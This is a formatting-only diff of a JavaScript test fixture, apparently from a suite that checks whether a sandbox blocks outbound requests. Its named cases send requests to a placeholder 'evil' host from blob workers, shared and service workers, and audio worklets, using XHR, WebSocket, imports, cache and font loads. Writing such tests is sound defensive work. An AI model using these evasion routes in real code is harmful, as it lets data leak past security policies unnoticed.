@@ -2,7 +2,9 @@
 export default {
   "a blob: worker": ({ blob, sends }) => void new Worker(blob(sends, "text/javascript")),
   "a blob: worker's request": ({ blob, evil }) =>
-    void new Worker(blob(`const x = new XMLHttpRequest(); x.open("GET", "${evil}", false); x.send()`, "text/javascript")),
+    void new Worker(
+      blob(`const x = new XMLHttpRequest(); x.open("GET", "${evil}", false); x.send()`, "text/javascript"),
+    ),
   "a blob: worker's socket": ({ blob, socket }) =>
     void new Worker(blob(`new WebSocket("${socket}")`, "text/javascript")),
   "a blob: worker's event source": ({ blob, evil }) =>
@@ -13,11 +15,11 @@ export default {
     void new Worker(blob(`import "${evil}/x.js"`, "text/javascript"), { type: "module" }),
   "a blob: worker's import": ({ blob, evil }) => void new Worker(blob(`import("${evil}/x.js")`, "text/javascript")),
   "a blob: worker's worker": ({ blob, sends }) =>
-    void new Worker(
-      blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(sends)}])))`, "text/javascript"),
-    ),
+    void new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(sends)}])))`, "text/javascript")),
   "a blob: worker's cache": ({ blob, evil }) =>
-    void new Worker(blob(`caches.open("x").then((c) => c.add(new Request("${evil}", { mode: "no-cors" })))`, "text/javascript")),
+    void new Worker(
+      blob(`caches.open("x").then((c) => c.add(new Request("${evil}", { mode: "no-cors" })))`, "text/javascript"),
+    ),
   "a blob: worker's font": ({ blob, evil }) =>
     void new Worker(blob(`new FontFace("f", "url(${evil}/f)").load()`, "text/javascript")),
   "a shared blob: worker": ({ blob, sends }) => void new SharedWorker(blob(sends, "text/javascript")),
@@ -39,7 +41,9 @@ export default {
   "a service worker of the site's": () => navigator.serviceWorker.register("sw.js"),
   "a service worker by a frame's container": ({ add }) => {
     add("iframe");
-    return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, location.href + "sw.js", { scope: location.href });
+    return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, location.href + "sw.js", {
+      scope: location.href,
+    });
   },
   "an audio worklet's module": ({ evil }) => new AudioContext().audioWorklet.addModule(evil + "/x.js"),
   "an audio worklet's import": ({ blob, evil }) =>
